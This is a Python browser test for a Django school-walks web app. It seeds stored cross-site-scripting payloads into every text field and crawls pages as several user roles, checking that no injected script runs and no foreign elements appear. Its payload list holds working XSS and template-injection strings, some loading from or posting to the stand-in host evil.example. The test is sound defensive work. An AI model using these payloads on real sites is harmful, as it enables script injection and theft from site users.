"""Scripts stored in every text of the school: in a real browser none of them runs on any page."""

import re
from urllib.parse import urljoin, urlsplit

import pytest
from django.apps import apps
from django.db.models import CharField, TextField

from .conftest import PHONE, sign_in

pytestmark = pytest.mark.browser
PAYLOADS = [
    "<script>pwned()</script>",
    "<img src=x onerror=pwned()>",
    "<svg onload=pwned()>",
    "</textarea><script>pwned()//",
    '"><script src=//evil.example/x.js></script>',
    "' autofocus onfocus='pwned()",
    "<iframe srcdoc='<script>'>",
    "javascript:pwned()",
    "<a href=javascript:pwned()>x</a>",
    "<style>@import '//evil.example';</style>",
    "</script><script>pwned()</script>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//e.x>",
    "<form action=//evil.example><button>",
    "{{constructor.constructor('pwned()')()}}",
    "${pwned()}",
    "<!--<script>-->",
    "<div hx-get=//evil.example hx-trigger=load>",
    "<p hx-on:load=pwned()>",
    "<math><mi xlink:href=javascript:pwned()>",
    "<object data=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "]]><x onclick=pwned()>",
]
OURS = ("school", "walks", "observations")
NOT_CHANGED = (
    "email",
    "password",
    "time_zone",
    "state",
    "outcome",
    "uid",
    "file",
    "action",
    "theme",
    "locale",
    "hashtags",
)
COUNT_RUNS = "window.ran = 0; window.pwned = () => { window.ran += 1 }"
COUNT_FOREIGN_ELEMENTS = (
    "document.querySelectorAll('script:not([src^=\"/static/\"]), iframe, object, base, meta[http-equiv]').length"
)
MAX_KINDS = 24


def put_scripts_into_texts(app):
    """Put a script into every text of every row; a short one where the column is short."""
    number = 0
    for model in apps.get_app_config(app).get_models():
        fields = [f for f in model._meta.concrete_fields if isinstance(f, CharField | TextField) and not f.choices]
        fields = [f for f in fields if f.name not in NOT_CHANGED and not (f.unique and f.primary_key)]
        for row in model._base_manager.all()[:60]:
            values = {}
            for field in fields:
                number += 1
                text = f"{PAYLOADS[number % len(PAYLOADS)]} {row.pk}"
                fits = (field.max_length or 2000) >= len(text)
                values[field.name] = text if fits and getattr(row, field.name) else getattr(row, field.name)
            if values:
                model._base_manager.filter(pk=row.pk).update(**values)


def kind_of_page(address):
    """Return the URL without its numbers: the kind of page."""
    return re.sub(r"[0-9a-f]{8}-[0-9a-f-]{27}|\d+", "#", urlsplit(address).path)


def crawl(page, site):
    """Follow links to one page of every kind. Return which scripts ran and which elements are not ours."""
    waiting, seen, found = ["/", "/walks/", "/praise/", "/approvals/", "/report/", "/people/"], set(), []
    while waiting and len(seen) < MAX_KINDS:
        address = waiting.pop(0)
        if (
            kind_of_page(address) in seen
            or not address.startswith("/")
            or re.search(r"sign-|\.\w+$|/me/data/|/static/|/admin/", address)
        ):
            continue
        seen.add(kind_of_page(address))
        answer = page.goto(address)
        if "text/html" not in (answer.headers.get("content-type") or ""):
            continue
        page.wait_for_timeout(50)
        if page.evaluate("window.ran") or page.evaluate(COUNT_FOREIGN_ELEMENTS):
            found.append((address, page.evaluate("window.ran"), page.evaluate(COUNT_FOREIGN_ELEMENTS)))
        links = page.eval_on_selector_all("a[href]", "all => all.map(a => a.getAttribute('href'))")
        waiting += [
            urlsplit(urljoin(site.url + address, link))._replace(scheme="", netloc="").geturl() for link in links
        ]
    return seen, found


def test_no_stored_script_runs(visit, site, watch):
    for app in OURS:
        put_scripts_into_texts(app)
    watch.allow("status of 404")  # some links are to pages this person cannot open
    page, dialogs, seen = visit(width=PHONE), [], set()
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.add_init_script(COUNT_RUNS)
    for mailbox in ("walker", "host", "head", "admin"):
        sign_in(page.context, site, mailbox)
        kinds, found = crawl(page, site)
        seen |= kinds
        assert (mailbox, found, dialogs) == (mailbox, [], [])
    assert {"/praise/", "/walks/#/", "/approvals/#/"} <= seen
